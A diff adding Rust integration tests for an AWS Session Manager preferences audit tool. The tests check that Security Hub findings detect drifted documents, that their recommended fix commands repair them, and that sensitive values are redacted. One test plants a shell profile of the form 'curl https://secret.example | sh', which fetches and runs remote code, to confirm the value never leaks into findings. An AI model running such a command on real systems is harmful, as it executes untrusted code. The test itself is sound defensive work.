@@ -231,3 +231,316 @@ async fn one_finding_per_target() {
             .contains("findings delivered to 4 of 6")
     );
 }
+
+/// Runs `test` on a current-thread runtime with a stack that reading Security Hub's deeply
+/// nested findings back, unoptimized, needs.
+fn on_a_large_stack<F: std::future::Future<Output = ()> + 'static>(test: fn() -> F) {
+    std::thread::Builder::new()
+        .stack_size(32 << 20)
+        .spawn(move || {
+            tokio::runtime::Builder::new_current_thread()
+                .enable_all()
+                .build()
+                .unwrap()
+                .block_on(test())
+        })
+        .unwrap()
+        .join()
+        .unwrap();
+}
+
+/// The one finding in an account and region.
+async fn finding_in(f: &Fleet, account: &str, region: &str) -> AwsSecurityFinding {
+    let mut found = findings(&f.url, account, region).await;
+    assert_eq!(
+        found.len(),
+        1,
+        "one finding in {account} {region}: {found:?}"
+    );
+    found.remove(0)
+}
+
+/// Runs the command a finding recommends, exactly as its text says, adding only what the test
+/// environment needs: `--endpoint-url` (the emulator, through the proxy, stands in for AWS),
+/// `--yes` (no terminal to answer the prompt), `-o` (the report in the test's dir) and, added
+/// by the fixtures for every apply, `--no-preflight` (the fleet's bucket, log group and key
+/// exist nowhere). `-p` and `-i` name the test's files already, as the audit was given them.
+fn run_recommended(f: &Fleet, finding: &AwsSecurityFinding, report: &str) -> Run {
+    let text = finding
+        .remediation()
+        .and_then(|r| r.recommendation())
+        .and_then(|r| r.text())
+        .expect("a recommendation");
+    let command = &text[text.find("ssm-prefs apply ").expect(text)..];
+    let mut args: Vec<String> = command
+        .split_whitespace()
+        .skip(1)
+        .map(String::from)
+        .collect();
+    let report = f.dir.path(report);
+    args.extend([
+        "--endpoint-url".into(),
+        f.proxy.url.clone(),
+        "--yes".into(),
+        "-o".into(),
+        report.to_str().unwrap().into(),
+    ]);
+    let out = ssm_prefs(&args);
+    assert_eq!(out.code, 0, "{command}: {}", out.all());
+    out
+}
+
+/// Adds a version with `doc` behind the tool's back, made the default or not.
+async fn add_version(
+    f: &Fleet,
+    account: &str,
+    region: &str,
+    doc: &serde_json::Value,
+    promote: bool,
+) {
+    let ssm = ssm_in(&f.url, account, region).await;
+    let v = ssm
+        .update_document()
+        .name(DOC)
+        .content(doc.to_string())
+        .document_version("$LATEST")
+        .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
+        .send()
+        .await
+        .unwrap()
+        .document_description
+        .unwrap()
+        .document_version
+        .unwrap();
+    if promote {
+        ssm.update_document_default_version()
+            .name(DOC)
+            .document_version(v)
+            .send()
+            .await
+            .unwrap();
+    }
+}
+
+/// Audits with `--security-hub` (and `extra`) and checks each named target's finding is
+/// `want`; returns the findings by target.
+async fn audit_findings(
+    f: &Fleet,
+    report: &str,
+    extra: &[&str],
+    targets: &[(String, &str)],
+    want: ComplianceStatus,
+) -> BTreeMap<(String, String), AwsSecurityFinding> {
+    let mut args = vec!["--security-hub"];
+    args.extend(extra);
+    let (out, path) = f.run("audit", report, &args);
+    let rows = rows_by_target(&path);
+    let mut by = BTreeMap::new();
+    for (id, region) in targets {
+        let k = (id.clone(), region.to_string());
+        assert_eq!(
+            rows[&k]["security_hub"],
+            "delivered",
+            "{k:?}: {}",
+            out.all()
+        );
+        let finding = finding_in(f, id, region).await;
+        assert_eq!(
+            finding.compliance().and_then(|c| c.status()),
+            Some(&want),
+            "{k:?}: {:?} {:?}",
+            rows[&k],
+            finding.remediation()
+        );
+        if want == ComplianceStatus::Passed {
+            assert_eq!(rows[&k]["status"], "compliant", "{k:?}");
+        }
+        by.insert(k, finding);
+    }
+    by
+}
+
+#[test]
+fn every_failed_findings_recommendation_fixes_it() {
+    on_a_large_stack(recommendations_fix_their_targets);
+}
+
+async fn recommendations_fix_their_targets() {
+    let f = Fleet::new(2, &["us-east-1", "eu-west-1"]);
+    let (out, _) = f.apply("apply.csv", &[]);
+    assert_eq!(out.code, 0, "{}", out.all());
+    let (a, b) = (f.ids[0].clone(), f.ids[1].clone());
+    let mut elsewhere = desired();
+    elsewhere["inputs"]["s3BucketName"] = json!("attacker-bucket");
+    // Missing: the document deleted.
+    ssm_in(&f.url, &a, "us-east-1")
+        .await
+        .delete_document()
+        .name(DOC)
+        .send()
+        .await
+        .unwrap();
+    // Drifted default: another bucket, made the default.
+    add_version(&f, &a, "eu-west-1", &elsewhere, true).await;
+    // The default holds the preferences; a newer version sending the logs elsewhere was
+    // added, never promoted (Session Manager may read it).
+    add_version(&f, &b, "us-east-1", &elsewhere, false).await;
+    // Drifted default, and the preferences added back as a newer version never promoted.
+    add_version(&f, &b, "eu-west-1", &elsewhere, true).await;
+    // (Compact JSON: the bytes differ from what apply wrote, which SSM would refuse.)
+    add_version(&f, &b, "eu-west-1", &desired(), false).await;
+    let targets = [
+        (a.clone(), "us-east-1"),
+        (a.clone(), "eu-west-1"),
+        (b.clone(), "us-east-1"),
+        (b.clone(), "eu-west-1"),
+    ];
+    // Plan shows the unpromoted version's target as one apply writes, and why.
+    let (out, plan) = f.run("plan", "plan.csv", &[]);
+    assert!(
+        out.stdout
+            .contains("s3BucketName attacker-bucket → org-session-logs"),
+        "{}",
+        out.stdout
+    );
+    let row = &rows_by_target(&plan)[&(b.clone(), "us-east-1".into())];
+    assert_eq!(
+        (
+            row["status"].as_str(),
+            row["changed_inputs"].as_str(),
+            row["error_code"].as_str()
+        ),
+        ("would-update", "s3BucketName", "UnpromotedVersion"),
+        "{row:?}"
+    );
+    assert!(
+        row["error_message"].contains(
+            "the latest version 2 differs from the preferences in s3BucketName and was never promoted; the default version 1 holds them"
+        ),
+        "{row:?}"
+    );
+    let failed = audit_findings(&f, "audit.csv", &[], &targets, ComplianceStatus::Failed).await;
+    for (i, ((id, region), finding)) in failed.iter().enumerate() {
+        run_recommended(&f, finding, &format!("fix-{i}.csv"));
+        let (default, latest) = default_and_latest(&f.url, id, region, DOC).await;
+        assert_eq!(
+            default, latest,
+            "{id} {region}: Session Manager reads the preferences whichever version it takes"
+        );
+    }
+    audit_findings(&f, "again.csv", &[], &targets, ComplianceStatus::Passed).await;
+}
+
+#[test]
+fn a_recommendation_fixes_what_existing_keep_or_refuse_audited() {
+    on_a_large_stack(keep_and_refuse_recommendations_fix);
+}
+
+async fn keep_and_refuse_recommendations_fix() {
+    let f = Fleet::new(2, &["us-east-1"]);
+    let (a, b) = (f.ids[0].clone(), f.ids[1].clone());
+    // Account 0: applied, then drifted. Account 1: someone else's document, without the tag.
+    let (out, _) = f.apply("apply.csv", &["-a", &a]);
+    assert_eq!(out.code, 0, "{}", out.all());
+    let mut timeout = desired();
+    timeout["inputs"]["idleSessionTimeout"] = json!("60");
+    add_version(&f, &a, "us-east-1", &timeout, true).await;
+    seed(&f.url, &b, "us-east-1", DOC, AWS_PAGE_EXAMPLE).await;
+    let targets = [(a.clone(), "us-east-1"), (b.clone(), "us-east-1")];
+    // Keep leaves a document that differs as it is: the fix does not keep it.
+    let kept = audit_findings(
+        &f,
+        "keep.csv",
+        &["--existing", "keep", "-a", &a],
+        &targets[..1],
+        ComplianceStatus::Failed,
+    )
+    .await;
+    run_recommended(&f, &kept[&(a.clone(), "us-east-1".into())], "fix-keep.csv");
+    // Refuse writes only where it sees the tag: the fix for a document without it takes it
+    // over, and says so.
+    let refused = audit_findings(
+        &f,
+        "refuse.csv",
+        &["--existing", "refuse", "-a", &b],
+        &targets[1..],
+        ComplianceStatus::Failed,
+    )
+    .await;
+    let finding = &refused[&(b.clone(), "us-east-1".into())];
+    let text = finding
+        .remediation()
+        .unwrap()
+        .recommendation()
+        .unwrap()
+        .text()
+        .unwrap();
+    assert!(text.contains("--existing update"), "{text}");
+    run_recommended(&f, finding, "fix-refuse.csv");
+    audit_findings(
+        &f,
+        "again.csv",
+        &["--existing", "refuse"],
+        &targets,
+        ComplianceStatus::Passed,
+    )
+    .await;
+}
+
+#[test]
+fn a_drifted_finding_names_where_the_logs_go_never_a_sensitive_value() {
+    on_a_large_stack(drifted_finding_names_values);
+}
+
+async fn drifted_finding_names_values() {
+    let f = Fleet::new(1, &["eu-west-1"]);
+    let (out, _) = f.apply("apply.csv", &[]);
+    assert_eq!(out.code, 0, "{}", out.all());
+    let id = f.ids[0].clone();
+    let mut doc = desired();
+    let inputs = &mut doc["inputs"];
+    inputs["s3BucketName"] = json!("attacker-bucket");
+    inputs["cloudWatchLogGroupName"] = json!("/attacker/sessions");
+    inputs["kmsKeyId"] = json!("alias/attacker-key");
+    inputs["s3EncryptionEnabled"] = json!(false);
+    inputs["runAsEnabled"] = json!(true);
+    inputs["runAsDefaultUser"] = json!("secret-runas-user");
+    inputs["shellProfile"] = json!({"linux": "curl https://secret.example | sh", "windows": ""});
+    inputs["idleSessionTimeout"] = json!("55");
+    add_version(&f, &id, "eu-west-1", &doc, true).await;
+    let found = audit_findings(
+        &f,
+        "audit.csv",
+        &[],
+        &[(id.clone(), "eu-west-1")],
+        ComplianceStatus::Failed,
+    )
+    .await;
+    let finding = &found[&(id.clone(), "eu-west-1".into())];
+    let description = finding.description().unwrap();
+    let differences = &finding.product_fields().unwrap()["ssm-prefs/Differences"];
+    for said in [
+        "s3BucketName: attacker-bucket (intended org-session-logs)",
+        "cloudWatchLogGroupName: /attacker/sessions (intended /org/session-manager)",
+        "kmsKeyId: alias/attacker-key (intended alias/session-manager)",
+        "s3EncryptionEnabled: false (intended true)",
+    ] {
+        assert!(description.contains(said), "{said}: {description}");
+        assert!(differences.contains(said), "{said}: {differences}");
+    }
+    assert!(description.chars().count() <= 1024);
+    // The sensitive inputs are named among what differs, their values nowhere.
+    assert!(
+        description.contains("runAsDefaultUser") && description.contains("shellProfile"),
+        "{description}"
+    );
+    let whole = format!("{finding:?}");
+    for secret in ["secret-runas-user", "secret.example", "curl"] {
+        assert!(!whole.contains(secret), "{secret} in {whole}");
+    }
+    // Other inputs' values are left to the report: by name only.
+    assert!(
+        !differences.contains("idleSessionTimeout") && !description.contains("55"),
+        "{description}"
+    );
+}
